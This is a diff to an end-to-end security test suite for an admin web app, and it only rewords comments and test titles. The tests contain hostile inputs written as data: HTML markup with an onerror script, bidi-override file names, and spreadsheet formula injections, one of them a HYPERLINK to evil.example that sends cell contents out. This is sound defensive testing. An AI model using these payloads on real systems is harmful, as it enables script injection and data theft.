@@ -1,4 +1,4 @@
-// Names that are more than names: markup, text direction, formulas. Each through every entrance that accepts a name, and in each place that shows one.
+// Names with markup, bidi characters or formulas, through every entrance that accepts a name and in each place that shows one.
 import { type Page } from "playwright/test";
 
 import { builtActions, callAction, forgetTargets, newLink, pageHeaders, sessionOf } from "../access-calls";
@@ -30,7 +30,7 @@ const actionOf = (name: string) => {
   return action;
 };
 
-/** What somebody must not be able to write, so that nothing reads as something else. */
+/** Characters that names must not contain, because they change how text reads. */
 const STEERING = ["invoice\u202Egpj.exe", "a\u2066b\u2069", "\u202Dabc", "x\u2067y", "two\nlines", "nul\u0000l"];
 
 test.afterEach(async ({ db }) => {
@@ -41,7 +41,7 @@ test.afterEach(async ({ db }) => {
   await db.query("delete from members where name like 'evil %'");
 });
 
-/** Writes these names wherever somebody can write one, as far as they are taken. @returns how many were taken */
+/** Submits these names through every entrance. @returns how many were accepted */
 async function plant(db: Database, names: readonly string[], userAgent: string): Promise<number> {
   const token = await accessToken("Contoso Admin");
   const { cookie } = await sessionOf(db, "Contoso Admin");
@@ -61,7 +61,7 @@ async function plant(db: Database, names: readonly string[], userAgent: string):
     if ((await callAction(actionOf("inviteMemberAction"), invited, { cookie, headers })) === "OK") taken++;
     const key = { name: `evil ${name}`, expiry: { kind: "never" } };
     if ((await callAction(actionOf("createKeyAction"), key, { cookie, headers })) === "OK") taken++;
-    // A session's list shows the browser's own words. The address is the server's: nobody writes it.
+    // The list of sessions shows the User-Agent. A client can't choose the address.
     await db.query(
       `insert into sessions (id, member_id, expires_at, user_agent, client_address)
        select gen_random_uuid(), id, now() + interval '1 day', $1, '192.0.2.7' from members where name = 'Contoso Admin'`,
@@ -71,14 +71,14 @@ async function plant(db: Database, names: readonly string[], userAgent: string):
   return taken;
 }
 
-/** What was run, made or refused on the page that is open. */
+/** Traces of injected scripts, elements or attributes on the open page. */
 async function harm(page: Page): Promise<string[]> {
   return page.evaluate(() => {
     const found: string[] = "neoOwned" in window ? ["a script ran"] : [];
     for (const element of document.querySelectorAll("*")) {
       for (const { name, value } of element.attributes) {
         if (name.startsWith("on")) found.push(`${element.tagName} ${name}`);
-        // React's own: a form that works once its scripts have come.
+        // React's placeholder for a form that isn't hydrated yet.
         if (value === "javascript:throw new Error('React form unexpectedly submitted.')") continue;
         if (/^(href|src|action|formaction)$/.test(name) && /^\s*(javascript|data|vbscript):/i.test(value))
           found.push(`${name}=${value}`);
@@ -90,7 +90,7 @@ async function harm(page: Page): Promise<string[]> {
   });
 }
 
-/** Opens everything that Contoso's admin can open, and what opens on it. */
+/** Opens every page and dialog of Contoso's admin. */
 async function everyPage(page: Page, db: Database, visit: (what: string) => Promise<void>): Promise<void> {
   const [agent] = await db.query<{ id: string }>("select id from agents where name like 'evil %' order by id limit 1");
   for (const [address, { least }] of Object.entries(PAGES)) {
@@ -121,7 +121,7 @@ async function everyPage(page: Page, db: Database, visit: (what: string) => Prom
   await visit("the account panel");
 }
 
-test("markup in the name of a key, an agent, a member, an organisation, an invitation, a browser and an address", async ({
+test("markup in any name is shown as text: key, agent, member, organisation, invitation, browser and address", async ({
   page,
   browser,
   db,
@@ -149,7 +149,7 @@ test("markup in the name of a key, an agent, a member, an organisation, an invit
     seen++;
     if ((await page.locator("body").innerText()).includes("neoOwned")) shown++;
   });
-  // Searched for, it comes back in the page and in its address.
+  // A search repeats it in the page and in its URL.
   for (const name of MARKUP.slice(0, 3)) {
     for (const path of ["/agents", "/roles-access/api-keys", "/roles-access/members", "/roles-access/audit-log"]) {
       await page.goto(`${path}?q=${encodeURIComponent(name)}`);
@@ -158,7 +158,7 @@ test("markup in the name of a key, an agent, a member, an organisation, an invit
       seen++;
     }
   }
-  // Those who are refused, or invited, read names too.
+  // Refused and invited people see names too.
   const guest = await (await browser.newContext({ baseURL: setting("NEO_E2E_URL") })).newPage();
   for (const path of [`/invitation/${await newLink(db)}`, "/sign-in?error=%3Cimg%20src=x%20onerror=neoOwned=1%3E"]) {
     await guest.goto(path);
@@ -174,13 +174,13 @@ test("markup in the name of a key, an agent, a member, an organisation, an invit
   tried(seen * MARKUP.length);
 });
 
-test("text direction and invisible characters in every name: refused where they are written, shut in where they are shown", async ({
+test("text direction and invisible characters in names are refused on input and isolated on display", async ({
   page,
   db,
 }) => {
-  // Through every entrance that people or programs write through.
+  // Every entrance refuses them.
   expect(await plant(db, STEERING, "Evil/1.0")).toBe(0);
-  // As if Microsoft's directory, or a row of before, had them all the same.
+  // Simulates names from Microsoft's directory or older rows that contain them.
   const steering = "\u202Eevil\u2066";
   await plant(db, ["for its rows"], "Evil/1.0");
   await db.query("update agents set name = 'evil ' || $1::text, description = $1::text where name like 'evil %'", [
@@ -202,7 +202,7 @@ test("text direction and invisible characters in every name: refused where they 
         if (!element || !/[\u202A-\u202E\u2066-\u2069]/.test(node.nodeValue ?? "")) continue;
         if (element.closest("script, style, title, next-route-announcer")) continue;
         count++;
-        // Something must isolate it that has no other text, or it affects the text beside it; a block is a paragraph of its own.
+        // An isolating element without other text must contain it, or it affects adjacent text; a block is its own bidi paragraph.
         let isolated = false;
         for (let at: Element | null = element; at?.textContent === node.nodeValue; at = at.parentElement) {
           const { unicodeBidi, display } = getComputedStyle(at);
@@ -229,7 +229,7 @@ function csvFields(text: string): string[][] {
   return rows;
 }
 
-test("formulas in every name that goes into an exported file", async ({ db }) => {
+test("formulas in names are defused in exported files", async ({ db }) => {
   const formulas = [
     `=HYPERLINK("https://evil.example?"&A1,"x")`,
     "+1+1",
@@ -266,7 +266,7 @@ test("formulas in every name that goes into an exported file", async ({ db }) =>
   let defused = 0;
   const formulae: string[] = [];
   for (const field of rows.flat()) {
-    // As spreadsheets part cells: by the comma, and where the machine is set so, by the semicolon or the tab.
+    // Spreadsheets separate cells by comma or, depending on the locale, by semicolon or tab.
     for (const cell of field.split(/[;\t\r\n]/)) {
       if (/^[\s"]*[=+\-@＝＋－＠]/.test(cell)) formulae.push(field);
       if (/^[\s"]*'[\s"]*[=+\-@＝＋－＠]/.test(cell)) defused++;
